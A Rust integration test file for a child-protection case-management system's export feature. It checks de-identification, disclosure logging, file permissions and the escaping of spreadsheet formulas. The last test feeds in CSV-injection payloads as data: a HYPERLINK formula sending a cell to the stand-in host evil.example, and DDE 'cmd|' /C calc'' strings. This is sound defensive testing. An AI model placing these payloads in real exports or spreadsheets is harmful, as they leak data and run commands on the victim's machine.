//! Form exports over real HTTP: one row per current submission, the union
//! of the form's fields, de-identified unless a coordinator states why.

use crate::common;

use casesync::db::schema::audit_log;
use casesync::forms::{check, definitions, model::Pii};
use common::build;
use common::phone::{fixture, form_envelope, phone};
use common::TestApp;
use diesel::prelude::*;
use serde_json::{json, Value};

/// The fields of a shipped form.
fn shipped_fields(form_id: &str) -> Vec<casesync::forms::model::Field> {
    let set = definitions::shipped();
    let file = set
        .forms
        .iter()
        .find(|f| f.document["x-form"]["id"] == form_id)
        .unwrap();
    check::check(&file.document, &set.resources).unwrap().fields
}

/// Every direct identifier the referral `data` holds (names, addresses,
/// phone numbers…), as the form marks them.
fn direct_values(data: &Value) -> Vec<String> {
    let mut out = Vec::new();
    for field in shipped_fields("kz.referral")
        .iter()
        .filter(|f| f.pii == Some(Pii::Direct))
    {
        for (_, value) in field.values_in(data) {
            fn strings(v: &Value, out: &mut Vec<String>) {
                match v {
                    Value::String(s) if s.len() > 3 && s != "unknown" => out.push(s.clone()),
                    Value::Array(items) => items.iter().for_each(|i| strings(i, out)),
                    Value::Object(map) => map.values().for_each(|i| strings(i, out)),
                    _ => {}
                }
            }
            strings(value, &mut out);
        }
    }
    out
}

fn referral(case_id: &str, name: &str) -> Value {
    build::referral(case_id)
        .received_at("2026-11-20T17:00:00+05:00")
        .child(name)
        .born("2012-05-14")
        .envelope()
}

fn rows(text: &str) -> Vec<csv::StringRecord> {
    csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes())
        .records()
        .map(Result::unwrap)
        .collect()
}

fn header(text: &str) -> Vec<String> {
    csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes())
        .headers()
        .unwrap()
        .iter()
        .map(str::to_string)
        .collect()
}

/// The terms of an identifying export (a disclosure to a court).
const IDENTIFYING: &str = "identifying=true&legal_basis=required_by_law\
    &provision=Code%20on%20Marriage%20art.%2076&recipient=Almaty%20district%20court\
    &purpose=court%20report%20for%20case%201";

/// A pseudonym of a de-identified export: 16 hex digits.
fn is_pseudonym(cell: &str) -> bool {
    cell.len() == 16 && cell.bytes().all(|b| b.is_ascii_hexdigit())
}

/// Tokens of an admin, a field worker, a coordinator and an analyst of
/// the Almaty centre.
fn almaty_staff(app: &TestApp) -> [String; 4] {
    let staff = app.staff().analyst().build();
    [staff.admin, staff.worker, staff.coordinator, staff.analyst]
}

#[test]
fn form_exports_are_deidentified_unless_a_coordinator_states_a_purpose() {
    let app = TestApp::spawn();
    let [admin, worker, coordinator, analyst] = almaty_staff(&app);
    let phone = phone(&app, &worker);

    let first = uuid::Uuid::new_v4().to_string();
    let original = referral(&first, "Timur Aliyev");
    assert_eq!(phone.send(&original).status, 201);
    // An edit: only the current version is exported.
    let mut edit = referral(&first, "Timur Aliyev");
    edit["supersedes"] = original["instance_id"].clone();
    edit["data"]["child"]["child_languages"] = json!(["kk"]);
    edit["data"]["child"]
        .as_object_mut()
        .unwrap()
        .remove("child_languages_other");
    let res = phone.send(&edit);
    assert_eq!(res.status, 201, "{}", res.text);
    let second = uuid::Uuid::new_v4().to_string();
    assert_eq!(phone.send(&referral(&second, "Aruzhan Bekova")).status, 201);

    let res = app.get("/api/v1/exports/forms/kz.referral.csv", &coordinator);
    assert_eq!(res.status, 200, "{}", res.text);
    assert_eq!(res.header("content-type"), Some("text/csv; charset=utf-8"));
    assert_eq!(
        res.header("content-disposition"),
        Some("attachment; filename=\"kz.referral.csv\"")
    );
    let text = &res.text;
    let columns = header(text);
    let records = rows(text);
    assert_eq!(records.len(), 2);
    let col = |name: &str| {
        columns
            .iter()
            .position(|h| h == name)
            .unwrap_or_else(|| panic!("no column {name} in {columns:?}"))
    };
    for meta in [
        "instance_id",
        "case_number",
        "site",
        "form_version",
        "submitted_by",
        "received_at",
    ] {
        col(meta);
    }
    assert!(!columns
        .iter()
        .any(|h| h == "child/child_name" || h == "child/child_dob"));
    // The edit (Kazakh only), not the original; the submission and its
    // case by this export's pseudonyms, times by their day.
    let timur = records
        .iter()
        .find(|r| &r[col("child/child_languages")] == "kk")
        .expect("the edit, not the original");
    assert!(is_pseudonym(&timur[col("case_number")]), "{timur:?}");
    assert!(is_pseudonym(&timur[col("instance_id")]), "{timur:?}");
    assert_ne!(timur[col("case_number")], timur[col("instance_id")]);
    assert_eq!(timur[col("received_at")].len(), "2026-11-20".len());
    for id in [
        first.as_str(),
        second.as_str(),
        original["instance_id"].as_str().unwrap(),
        edit["instance_id"].as_str().unwrap(),
    ] {
        assert!(!text.contains(id), "{id} in a de-identified export");
    }
    assert_eq!(&timur[col("site")], "KZ-CAM-ALA");
    assert_eq!(&timur[col("submitted_by")], "aigerim");
    assert_eq!(&timur[col("child/child_sex")], "female");
    // Born 14 May 2012, referred 20 November 2026: 14.
    assert_eq!(&timur[col("child/child_dob_age_years")], "14");
    assert_eq!(&timur[col("child/child_languages")], "kk");
    assert_eq!(&timur[col("child/child_languages/kk")], "1");
    assert_eq!(&timur[col("child/child_languages/ru")], "0");
    // No direct identifier of either child, the referrer or the family.
    for value in direct_values(&original["data"])
        .into_iter()
        .chain(["Timur Aliyev".to_string(), "Aruzhan Bekova".to_string()])
    {
        assert!(
            !text.contains(&value),
            "{value:?} leaked into a de-identified export"
        );
    }

    // Identifying: coordinators only, on a legal basis, to a recipient,
    // with a purpose; in the disclosure log and on the audit log.
    let res = app.get(
        "/api/v1/exports/forms/kz.referral.csv?identifying=true",
        &coordinator,
    );
    assert_eq!(
        res.error_pointers(),
        ["/legal_basis", "/recipient", "/purpose"]
    );
    let res = app.get(
        "/api/v1/exports/forms/kz.referral.csv?identifying=true&legal_basis=required_by_law\
         &recipient=court&purpose=court%20report%20for%20case%201",
        &coordinator,
    );
    assert_eq!(res.error_pointers(), ["/provision"]);
    let purpose = "court report for case 1";
    let res = app.get(
        &format!(
            "/api/v1/exports/forms/kz.referral.csv?identifying=true&legal_basis=required_by_law\
             &provision=Code%20on%20Marriage%20art.%2076&recipient=Almaty%20district%20court\
             &purpose={}",
            purpose.replace(' ', "%20")
        ),
        &coordinator,
    );
    assert_eq!(res.status, 200, "{}", res.text);
    assert!(res.text.contains("Timur Aliyev"));
    let audited: Vec<(Option<String>, Option<String>)> = audit_log::table
        .filter(audit_log::action.eq("form_exported"))
        .select((audit_log::detail, audit_log::purpose))
        .load(&mut app.conn())
        .unwrap();
    let log = app.get("/api/v1/disclosures", &coordinator);
    assert_eq!(log.status, 200, "{}", log.text);
    let logged = &log.body["items"][0];
    assert_eq!(logged["legal_basis"], "required_by_law");
    assert_eq!(logged["legal_provision"], "Code on Marriage art. 76");
    assert_eq!(logged["recipient"], "Almaty district court");
    assert_eq!(logged["method"], "CSV download");
    assert!(logged["what"]
        .as_str()
        .unwrap()
        .starts_with("form kz.referral, columns: instance_id case_number"));
    let id = logged["id"].as_str().unwrap();
    assert!(audited.contains(&(
        Some(format!("identifying; disclosure {id} (required_by_law)")),
        Some(purpose.to_string())
    )));
    assert!(audited.contains(&(Some("de-identified".to_string()), None)));
    app.get(
        "/api/v1/exports/forms/kz.referral.csv?identifying=true&purpose=for%20my%20own%20research",
        &analyst,
    )
    .assert_problem(403, "forbidden");
    app.get("/api/v1/exports/forms/kz.referral.csv", &worker)
        .assert_problem(403, "forbidden");
    app.get("/api/v1/exports/forms/kz.referral.csv", &admin)
        .assert_problem(403, "forbidden");

    // Analysts get the de-identified file; filters and Excel's BOM.
    let res = app.get(
        "/api/v1/exports/forms/kz.referral.csv?bom=true&version=2021.1.1",
        &analyst,
    );
    assert_eq!(res.status, 200, "{}", res.text);
    assert!(res.text.starts_with('\u{feff}'));
    assert_eq!(rows(&res.text).len(), 2);
    let res = app.get(
        "/api/v1/exports/forms/kz.referral.csv?from=2099-01-01",
        &analyst,
    );
    assert_eq!(rows(&res.text).len(), 0);
    assert_eq!(header(&res.text)[0], "instance_id");
    app.get(
        "/api/v1/exports/forms/kz.referral.csv?site=BT-NCWC",
        &analyst,
    )
    .assert_problem(403, "forbidden");
    app.get("/api/v1/exports/forms/kz.nothing.csv", &analyst)
        .assert_problem(404, "not_found");
}

/// An export's query string as docs/api.md gives it: the filters and the
/// disclosure's terms side by side, spaces as `+` or `%20`, flags as
/// `true`/`false`. A parameter it does not take is refused with the names
/// of those it does (never the one sent); one given twice is refused, the
/// consent ids included (they go comma-separated, once).
#[test]
fn an_export_query_takes_its_filters_and_the_terms_side_by_side() {
    let app = TestApp::spawn();
    let [_, worker, coordinator, _] = almaty_staff(&app);
    let id = uuid::Uuid::new_v4().to_string();
    assert_eq!(
        phone(&app, &worker)
            .send(&referral(&id, "Timur Aliyev"))
            .status,
        201
    );
    let res = app.get(
        "/api/v1/exports/cases.csv?programme=kz&from=2026-01-01&to=2026-12-31\
         &site=KZ-CAM-ALA&bom=true&formula_escape=true&identifying=true\
         &legal_basis=unicef_me&recipient=UNICEF+M%26E+consultant\
         &purpose=quarterly+coaching+review&method=encrypted%20e-mail",
        &coordinator,
    );
    assert_eq!(res.status, 200, "{}", res.text);
    assert!(res.text.starts_with('\u{feff}'), "bom=true");
    assert_eq!(rows(&res.text).len(), 1);
    let logged = app.get("/api/v1/disclosures", &coordinator);
    let logged = &logged.body["items"];
    assert_eq!(logged[0]["legal_basis"], "unicef_me");
    assert_eq!(logged[0]["recipient"], "UNICEF M&E consultant");
    assert_eq!(logged[0]["purpose"], "quarterly coaching review");
    assert_eq!(logged[0]["method"], "encrypted e-mail");

    let res = app.get(
        "/api/v1/exports/forms/kz.referral.csv?identifying=true&legal-basis=unicef_me\
         &recipient=UNICEF&purpose=quarterly+coaching+review",
        &coordinator,
    );
    let detail = res.assert_problem(400, "bad_request")["detail"]
        .as_str()
        .unwrap()
        .to_string();
    for name in [
        "`legal_basis`",
        "`recipient`",
        "`version`",
        "`formula_escape`",
    ] {
        assert!(detail.contains(name), "{name}: {detail}");
    }
    assert!(!detail.contains("legal-basis"), "{detail}");
    let res = app.get(
        &format!(
            "/api/v1/exports/cases.csv?programme=kz&identifying=true&legal_basis=consent\
             &case={id}&consent=a1&consent=b2&recipient=UNICEF&purpose=quarterly+coaching+review"
        ),
        &coordinator,
    );
    let detail = res.assert_problem(400, "bad_request")["detail"]
        .as_str()
        .unwrap()
        .to_string();
    assert!(detail.contains("duplicate field"), "{detail}");
    let logged = app.get("/api/v1/disclosures", &coordinator);
    assert_eq!(
        logged.body["items"].as_array().unwrap().len(),
        1,
        "the refused ones logged nothing"
    );
}

#[test]
fn the_case_export_has_a_row_per_case_with_its_facts_and_deadlines() {
    let app = TestApp::spawn();
    let admin = app.admin_token();
    let (_, worker) = app.user(&admin, "aigerim", "field_worker", &["KZ-CAM-ALA"]);
    let (_, coordinator) = app.user(&admin, "manager", "coordinator", &["KZ-CAM-ALA"]);
    let (_, viewer) = app.user(&admin, "viewer", "viewer", &[]);
    let phone = phone(&app, &worker);
    for name in ["Timur Aliyev", "Aruzhan Bekova"] {
        let id = uuid::Uuid::new_v4().to_string();
        assert_eq!(phone.send(&referral(&id, name)).status, 201);
    }
    let res = app.get("/api/v1/exports/cases.csv?programme=kz", &coordinator);
    assert_eq!(res.status, 200, "{}", res.text);
    assert_eq!(
        res.header("content-disposition"),
        Some("attachment; filename=\"kz-cases.csv\"")
    );
    let columns = header(&res.text);
    let records = rows(&res.text);
    assert_eq!(records.len(), 2);
    let col = |name: &str| {
        columns
            .iter()
            .position(|h| h == name)
            .unwrap_or_else(|| panic!("{name} in {columns:?}"))
    };
    // De-identified: each case by this export's pseudonym, in both its
    // columns; opened by the day.
    for r in &records {
        assert!(is_pseudonym(&r[col("case_number")]), "{r:?}");
        assert_eq!(r[col("case_id")], r[col("case_number")]);
        assert_eq!(r[col("opened_at")].len(), "2026-11-20".len(), "{r:?}");
    }
    assert_ne!(records[0][col("case_id")], records[1][col("case_id")]);
    let identifying = app.get(
        &format!("/api/v1/exports/cases.csv?programme=kz&{IDENTIFYING}"),
        &coordinator,
    );
    assert_eq!(identifying.status, 200, "{}", identifying.text);
    let numbers: Vec<String> = rows(&identifying.text)
        .iter()
        .map(|r| r[col("case_number")].to_string())
        .collect();
    assert_eq!(numbers, ["1", "2"]);
    for r in &records {
        assert_eq!(&r[col("state")], "referred");
        assert_eq!(&r[col("site")], "KZ-CAM-ALA");
        assert_eq!(&r[col("child.sex")], "female");
        assert_eq!(&r[col("child.date_of_birth_age_years")], "14");
        assert_eq!(&r[col("readmission")], "0");
        // Referred on 20 November 2026 and nothing since: the 24-hour and
        // 48-hour rules are past due.
        assert!(
            r[col("deadlines_overdue")].parse::<u32>().unwrap() >= 2,
            "{r:?}"
        );
    }
    assert!(!columns.iter().any(|c| c == "child.date_of_birth"));
    assert!(!res.text.contains("Timur") && !res.text.contains("Aruzhan"));
    app.get("/api/v1/exports/cases.csv?programme=kz", &viewer)
        .assert_problem(403, "forbidden");
    let res = app.get("/api/v1/exports/cases.csv?programme=xx", &coordinator);
    assert_eq!(res.error_pointers(), ["/programme"]);
}

#[test]
fn exports_from_the_shell_write_private_files_and_are_audited() {
    use std::os::unix::fs::PermissionsExt;
    let app = TestApp::spawn();
    let admin = app.admin_token();
    let (_, worker) = app.user(&admin, "aigerim", "field_worker", &["KZ-CAM-ALA"]);
    let phone = phone(&app, &worker);
    let id = uuid::Uuid::new_v4().to_string();
    assert_eq!(phone.send(&referral(&id, "Timur Aliyev")).status, 201);

    let out = app.data_dir().join("referrals.csv");
    let run = |args: &[&str]| app.shell().args(args).output().unwrap();
    let done = run(&[
        "export",
        "forms",
        "kz.referral",
        "--out",
        out.to_str().unwrap(),
    ]);
    assert!(
        done.status.success(),
        "{}",
        String::from_utf8_lossy(&done.stderr)
    );
    assert!(String::from_utf8_lossy(&done.stderr).contains("1 rows written"));
    let text = std::fs::read_to_string(&out).unwrap();
    assert_eq!(rows(&text).len(), 1);
    assert!(!text.contains("Timur"));
    let mode = std::fs::metadata(&out).unwrap().permissions().mode();
    assert_eq!(mode & 0o777, 0o600);

    let refused = run(&[
        "export",
        "cases",
        "--programme",
        "kz",
        "--identifying",
        "--out",
        out.to_str().unwrap(),
    ]);
    assert!(!refused.status.success());
    assert!(String::from_utf8_lossy(&refused.stderr).contains("legal_basis"));
    let cases_file = app.data_dir().join("cases.csv");
    let done = run(&[
        "export",
        "cases",
        "--programme",
        "kz",
        "--identifying",
        "--legal-basis",
        "unicef_me",
        "--recipient",
        "UNICEF M&E consultant",
        "--purpose",
        "transfer of the file to the court",
        "--out",
        cases_file.to_str().unwrap(),
    ]);
    assert!(
        done.status.success(),
        "{}",
        String::from_utf8_lossy(&done.stderr)
    );
    assert_eq!(
        rows(&std::fs::read_to_string(&cases_file).unwrap()).len(),
        1
    );
    let details: Vec<Option<String>> = audit_log::table
        .filter(audit_log::action.eq("exported"))
        .select(audit_log::detail)
        .load(&mut app.conn())
        .unwrap();
    assert!(details.contains(&Some("form kz.referral, de-identified".into())));
    assert!(details
        .iter()
        .flatten()
        .any(|d| d.starts_with("cases of kz, identifying; disclosure ")
            && d.ends_with("(unicef_me)")));
    // In the disclosure log as the API's are, naming no account.
    use casesync::db::schema::disclosures;
    let logged: Vec<(Option<String>, String, String)> = disclosures::table
        .select((
            disclosures::actor_id,
            disclosures::what,
            disclosures::method,
        ))
        .load(&mut app.conn())
        .unwrap();
    assert_eq!(logged.len(), 1, "{logged:?}");
    assert_eq!(logged[0].0, None);
    assert!(
        logged[0]
            .1
            .starts_with("cases of kz, columns: case_id case_number"),
        "{logged:?}"
    );
    assert_eq!(logged[0].2, "CSV download");

    // The indicators of the month of the referral, by sex, on stdout.
    let done = run(&[
        "indicators",
        "kz",
        "--from",
        "2026-11-01",
        "--to",
        "2026-11-30",
        "--by",
        "sex",
        "--indicator",
        "IND-01,IND-02",
    ]);
    assert!(
        done.status.success(),
        "{}",
        String::from_utf8_lossy(&done.stderr)
    );
    let text = String::from_utf8(done.stdout).unwrap();
    assert_eq!(
        header(&text),
        [
            "indicator",
            "label",
            "period",
            "sex",
            "cases",
            "children",
            "numerator",
            "denominator",
            "percent",
            "median_delay_hours",
            "median_delay_days",
            "suppression",
            "caveat"
        ]
    );
    let cells: Vec<(String, String, String)> = rows(&text)
        .iter()
        .map(|r| (r[0].to_string(), r[3].to_string(), r[4].to_string()))
        .collect();
    // The fixture's child is a girl whose separation nobody has assessed
    // yet: one case in IND-01, none in IND-02 (its total row says 0).
    let cell = |id: &str, sex: &str, n: &str| (id.to_string(), sex.to_string(), n.to_string());
    assert_eq!(
        cells,
        [
            cell("IND-01", "total", "1"),
            cell("IND-01", "female", "1"),
            cell("IND-02", "total", "0"),
        ]
    );
    let reported: i64 = audit_log::table
        .filter(audit_log::action.eq("indicators_reported"))
        .count()
        .get_result(&mut app.conn())
        .unwrap();
    assert_eq!(reported, 1);
}

/// kz.referral 2026.2: `child/child_religion` added, the signoff's
/// `referrer_retained_copy` dropped.
fn publish_second_referral_version(app: &TestApp, admin: &str) {
    let mut draft: Value = serde_json::from_str(
        &std::fs::read_to_string(
            std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
                .join("form-definitions/kz/referral.json"),
        )
        .unwrap(),
    )
    .unwrap();
    draft["x-form"]["version"] = json!("2026.2");
    draft["properties"]["child"]["properties"]["child_religion"] =
        json!({"title": "Religion", "type": "string", "enum": ["islam", "christianity", "other"]});
    draft["properties"]["signoff"]["properties"]
        .as_object_mut()
        .unwrap()
        .shift_remove("referrer_retained_copy");
    let res = app.post("/api/v1/forms/kz.referral/draft", admin, draft);
    assert_eq!(res.status, 201, "{}", res.text);
    let res = app.request(
        "POST",
        "/api/v1/forms/kz.referral/draft/publish",
        Some(admin),
        None,
    );
    assert_eq!(res.status, 201, "{}", res.text);
}

#[test]
fn a_new_form_version_gives_the_union_of_columns_and_the_zip_joins_repeat_groups() {
    let app = TestApp::spawn();
    let admin = app.admin_token();
    let (_, worker) = app.user(&admin, "aigerim", "field_worker", &["KZ-CAM-ALA"]);
    let (_, coordinator) = app.user(&admin, "manager", "coordinator", &["KZ-CAM-ALA"]);
    let phone = phone(&app, &worker);
    publish_second_referral_version(&app, &admin);

    let old = referral(&uuid::Uuid::new_v4().to_string(), "Timur Aliyev");
    assert_eq!(phone.send(&old).status, 201);
    let mut new = referral(&uuid::Uuid::new_v4().to_string(), "Aruzhan Bekova");
    new["form_version"] = json!("2026.2");
    new["data"]["child"]["child_religion"] = json!("islam");
    new["data"]["signoff"]
        .as_object_mut()
        .unwrap()
        .remove("referrer_retained_copy");
    let res = phone.send(&new);
    assert_eq!(res.status, 201, "{}", res.text);

    // The CSV: both versions' fields, the newest version's order first
    // (identifying: the religion is free text, left out when not).
    let res = app.get(
        &format!("/api/v1/exports/forms/kz.referral.csv?{IDENTIFYING}"),
        &coordinator,
    );
    assert_eq!(res.status, 200, "{}", res.text);
    let columns = header(&res.text);
    let records = rows(&res.text);
    let col = |name: &str| columns.iter().position(|h| h == name).unwrap();
    let religion = col("child/child_religion");
    let retained = col("signoff/referrer_retained_copy");
    assert!(
        religion < retained,
        "the dropped field comes after: {columns:?}"
    );
    let row_of = |envelope: &Value| {
        records
            .iter()
            .find(|r| r[0] == *envelope["instance_id"].as_str().unwrap())
            .unwrap()
    };
    assert_eq!(&row_of(&old)[col("form_version")], "2021.1.1");
    assert_eq!(&row_of(&old)[religion], "");
    assert_eq!(&row_of(&old)[retained], "true");
    assert_eq!(&row_of(&new)[col("form_version")], "2026.2");
    assert_eq!(&row_of(&new)[religion], "islam");
    assert_eq!(&row_of(&new)[retained], "");
    // Rows stored before ingest kept export cells (or under another
    // release's column rules) are read from their envelope: same file.
    use casesync::db::schema::submission_cells;
    diesel::delete(
        submission_cells::table
            .filter(submission_cells::instance_id.eq(old["instance_id"].as_str().unwrap())),
    )
    .execute(&mut app.conn())
    .unwrap();
    diesel::update(submission_cells::table)
        .filter(submission_cells::instance_id.eq(new["instance_id"].as_str().unwrap()))
        .set((
            submission_cells::layout.eq("v0:an-older-layout"),
            submission_cells::identifying.eq("x"),
        ))
        .execute(&mut app.conn())
        .unwrap();
    let again = app.get(
        &format!("/api/v1/exports/forms/kz.referral.csv?{IDENTIFYING}"),
        &coordinator,
    );
    assert_eq!(again.text, res.text);
    // Without a second connection to read on, one reads it all: same file.
    use casesync::exports::{forms as form_exports, Scope};
    let mut conn = app.conn();
    let terms = form_exports::FormFilter {
        identifying: Some(true),
        terms: casesync::privacy::disclosures::DisclosureTerms {
            legal_basis: Some("required_by_law".into()),
            provision: Some("Code on Marriage art. 76".into()),
            recipient: Some("Almaty district court".into()),
            purpose: Some("court report for case 1".into()),
            ..Default::default()
        },
        ..Default::default()
    };
    let plan = form_exports::plan(&mut conn, &Scope::shell(), "kz.referral", &terms).unwrap();
    let mut alone = Vec::new();
    form_exports::write(&mut conn, None, &plan, |chunk| {
        alone.extend(chunk);
        true
    })
    .unwrap();
    assert_eq!(String::from_utf8(alone).unwrap(), res.text);
    // Only one version when asked.
    let only = app.get(
        &format!("/api/v1/exports/forms/kz.referral.csv?version=2026.2&{IDENTIFYING}"),
        &coordinator,
    );
    assert_eq!(rows(&only.text).len(), 1);

    // The .zip: the same CSV, plus one file per repeat group whose rows
    // point at their submission.
    let res = app.get(
        &format!("/api/v1/exports/forms/kz.referral.zip?{IDENTIFYING}"),
        &coordinator,
    );
    assert_eq!(res.status, 200, "{}", res.text);
    assert_eq!(res.header("content-type"), Some("application/zip"));
    let files = unzip(&res.bytes);
    assert!(
        files.contains_key("kz.referral-child-siblings.csv"),
        "{:?}",
        files.keys()
    );
    assert_eq!(
        rows(&files["kz.referral.csv"]).len(),
        2,
        "the main file is the CSV export"
    );
    assert_eq!(header(&files["kz.referral.csv"]), columns);
    let parents = &files["kz.referral-parents_legal_reps.csv"];
    let parent_columns = header(parents);
    assert_eq!(
        parent_columns[parent_columns.len() - 2..],
        ["PARENT_KEY".to_string(), "KEY".to_string()]
    );
    assert!(parent_columns.contains(&"relationship".to_string()));
    let parent_rows = rows(parents);
    assert_eq!(parent_rows.len(), 4, "two parents in each referral");
    let first = old["instance_id"].as_str().unwrap();
    let keys: Vec<(String, String)> = parent_rows
        .iter()
        .filter(|r| &r[parent_columns.len() - 2] == first)
        .map(|r| {
            (
                r[parent_columns.len() - 2].to_string(),
                r[parent_columns.len() - 1].to_string(),
            )
        })
        .collect();
    assert_eq!(
        keys,
        vec![
            (first.to_string(), format!("{first}/parents_legal_reps[1]")),
            (first.to_string(), format!("{first}/parents_legal_reps[2]")),
        ]
    );
    // De-identified like the CSV: no name of a parent, sibling or child;
    // the repeat files join the main one by the submission's pseudonym.
    let res = app.get("/api/v1/exports/forms/kz.referral.zip", &coordinator);
    assert_eq!(res.status, 200, "{}", res.text);
    let files = unzip(&res.bytes);
    let everything: String = files.values().cloned().collect();
    for value in direct_values(&old["data"])
        .into_iter()
        .chain(["Mother D".to_string(), "Sibling B".to_string()])
        .chain([first.to_string()])
    {
        assert!(!everything.contains(&value), "{value:?} in the zip");
    }
    let main: Vec<String> = rows(&files["kz.referral.csv"])
        .iter()
        .map(|r| r[0].to_string())
        .collect();
    let parents = &files["kz.referral-parents_legal_reps.csv"];
    let width = header(parents).len();
    for r in rows(parents) {
        assert!(main.contains(&r[width - 2].to_string()), "{r:?}");
        assert!(r[width - 1].starts_with(&r[width - 2]), "{r:?}");
    }
}

/// The files of a .zip export by name.
fn unzip(bytes: &[u8]) -> std::collections::BTreeMap<String, String> {
    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(bytes.to_vec())).unwrap();
    let mut files = std::collections::BTreeMap::new();
    for i in 0..archive.len() {
        let mut file = archive.by_index(i).unwrap();
        let mut text = String::new();
        std::io::Read::read_to_string(&mut file, &mut text).unwrap();
        files.insert(file.name().to_string(), text);
    }
    files
}

/// A cell of `records` by its column's name.
fn cell_of<'a>(columns: &[String], record: &'a csv::StringRecord, name: &str) -> &'a str {
    let i = columns
        .iter()
        .position(|h| h == name)
        .unwrap_or_else(|| panic!("no column {name} in {columns:?}"));
    &record[i]
}

/// #14 item 9: what a spreadsheet would run as a formula reaches every
/// CSV neutralised (`'` first, quoted); whole numbers stay numbers;
/// `formula_escape=false` gives scripts the values as they are, and says
/// so on the audit row and in the disclosure log.
#[test]
fn formulas_are_neutralised_in_every_csv_unless_a_script_asks() {
    let app = TestApp::spawn();
    let [admin, worker, coordinator, analyst] = almaty_staff(&app);
    let phone = phone(&app, &worker);
    let link = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")";
    let calc = "@SUM(1+1)*cmd|' /C calc'!A0";
    let case_id = uuid::Uuid::new_v4().to_string();
    let mut envelope = referral(&case_id, link);
    envelope["device_id"] = json!(link);
    let child = &mut envelope["data"]["child"];
    child["concern_description"] = json!(calc);
    child["evidence_description"] = json!("-3");
    child["current_care_situation"] = json!("+7");
    child["other_relevant_info"] = json!("-3 days in care");
    envelope["data"]["parents_legal_reps"][0]["name"] = json!("+cmd|' /C calc'!A0");
    let res = phone.send(&envelope);
    assert_eq!(res.status, 201, "{}", res.text);
    // A fact from free text, for the case export.
    let mut assessment = fixture("kz.initial_assessment");
    assessment["scope"]["identity"]["ethnicity"] = json!(link);
    let res = phone.send(&form_envelope(
        "kz.initial_assessment",
        &case_id,
        assessment,
    ));
    assert_eq!(res.status, 201, "{}", res.text);

    // De-identified (the analyst's): the phone's device id is neutralised.
    let res = app.get("/api/v1/exports/forms/kz.referral.csv", &analyst);
    assert_eq!(res.status, 200, "{}", res.text);
    let columns = header(&res.text);
    let record = &rows(&res.text)[0];
    assert_eq!(cell_of(&columns, record, "device_id"), format!("'{link}"));
    assert!(res
        .text
        .contains(&format!("\"'{}\"", link.replace('"', "\"\""))));

    // Identifying, in the CSV and the .zip's repeat files.
    let res = app.get(
        &format!("/api/v1/exports/forms/kz.referral.csv?{IDENTIFYING}"),
        &coordinator,
    );
    assert_eq!(res.status, 200, "{}", res.text);
    let columns = header(&res.text);
    let record = &rows(&res.text)[0];
    let cell = |name: &str| cell_of(&columns, record, name).to_string();
    assert_eq!(cell("child/child_name"), format!("'{link}"));
    assert_eq!(cell("child/concern_description"), format!("'{calc}"));
    assert_eq!(cell("child/other_relevant_info"), "'-3 days in care");
    // Entirely numbers: left as they are (docs/api.md).
    assert_eq!(cell("child/evidence_description"), "-3");
    assert_eq!(cell("child/current_care_situation"), "+7");
    assert!(!res
        .text
        .lines()
        .any(|l| l.starts_with('=') || l.contains(",=") || l.contains(",@") || l.contains(",+c")));
    let zip = app.get(
        &format!("/api/v1/exports/forms/kz.referral.zip?{IDENTIFYING}"),
        &coordinator,
    );
    let files = unzip(&zip.bytes);
    let parents = &files["kz.referral-parents_legal_reps.csv"];
    assert_eq!(
        cell_of(&header(parents), &rows(parents)[0], "name"),
        "'+cmd|' /C calc'!A0"
    );
    assert_eq!(files["kz.referral.csv"], res.text);

    // A script's export: as they are, and on record as such.
    let raw = app.get(
        &format!("/api/v1/exports/forms/kz.referral.csv?{IDENTIFYING}&formula_escape=false"),
        &coordinator,
    );
    assert_eq!(raw.status, 200, "{}", raw.text);
    let columns = header(&raw.text);
    let record = &rows(&raw.text)[0];
    assert_eq!(cell_of(&columns, record, "child/child_name"), link);
    assert_eq!(cell_of(&columns, record, "child/concern_description"), calc);
    let details: Vec<Option<String>> = audit_log::table
        .filter(audit_log::action.eq("form_exported"))
        .order(audit_log::id.asc())
        .select(audit_log::detail)
        .load(&mut app.conn())
        .unwrap();
    let last = details.last().unwrap().clone().unwrap();
    assert!(
        last.ends_with("; formulas not escaped (formula_escape=false)"),
        "{last}"
    );
    assert!(!details[0]
        .as_deref()
        .unwrap()
        .contains("formulas not escaped"));
    let log = app.get("/api/v1/disclosures", &coordinator);
    assert!(log.body["items"]
        .as_array()
        .unwrap()
        .iter()
        .any(|d| d["what"]
            .as_str()
            .unwrap()
            .ends_with("formulas not escaped (formula_escape=false)")));
    app.get(
        "/api/v1/exports/forms/kz.referral.csv?formula_escape=perhaps",
        &analyst,
    )
    .assert_problem(400, "bad_request");

    // The case export (the child's name is a fact) and the audit log's
    // CSV (a purpose is people's words).
    let purpose = "=HYPERLINK(\"http://evil.example\") for the court";
    let res = app.get(
        &format!(
            "/api/v1/exports/cases.csv?programme=kz&identifying=true\
             &legal_basis=unicef_me&recipient=UNICEF&purpose={}",
            purpose
                .replace('%', "%25")
                .replace(' ', "%20")
                .replace('"', "%22")
                .replace('=', "%3D")
                .replace('(', "%28")
                .replace(')', "%29")
                .replace(':', "%3A")
                .replace('/', "%2F")
        ),
        &coordinator,
    );
    assert_eq!(res.status, 200, "{}", res.text);
    assert_eq!(
        cell_of(&header(&res.text), &rows(&res.text)[0], "child.ethnicity"),
        format!("'{link}")
    );
    let audit = app.get("/api/v1/exports/audit.csv", &admin);
    assert_eq!(audit.status, 200, "{}", audit.text);
    let columns = header(&audit.text);
    let purposes: Vec<String> = rows(&audit.text)
        .iter()
        .map(|r| cell_of(&columns, r, "purpose").to_string())
        .collect();
    assert!(purposes.contains(&format!("'{purpose}")), "{purposes:?}");
    let audit = app.get("/api/v1/exports/audit.csv?formula_escape=false", &admin);
    let purposes: Vec<String> = rows(&audit.text)
        .iter()
        .map(|r| cell_of(&columns, r, "purpose").to_string())
        .collect();
    assert!(purposes.contains(&purpose.to_string()), "{purposes:?}");
    let exported: Vec<Option<String>> = audit_log::table
        .filter(audit_log::action.eq("audit_exported"))
        .order(audit_log::id.asc())
        .select(audit_log::detail)
        .load(&mut app.conn())
        .unwrap();
    assert!(exported[1]
        .as_deref()
        .unwrap()
        .ends_with("formulas not escaped (formula_escape=false)"));

    // From the shell: escaped unless --no-formula-escape, which is audited.
    let run = |args: &[&str]| app.shell().args(args).output().unwrap();
    let out = app.data_dir().join("referrals.csv");
    for (flag, expected) in [
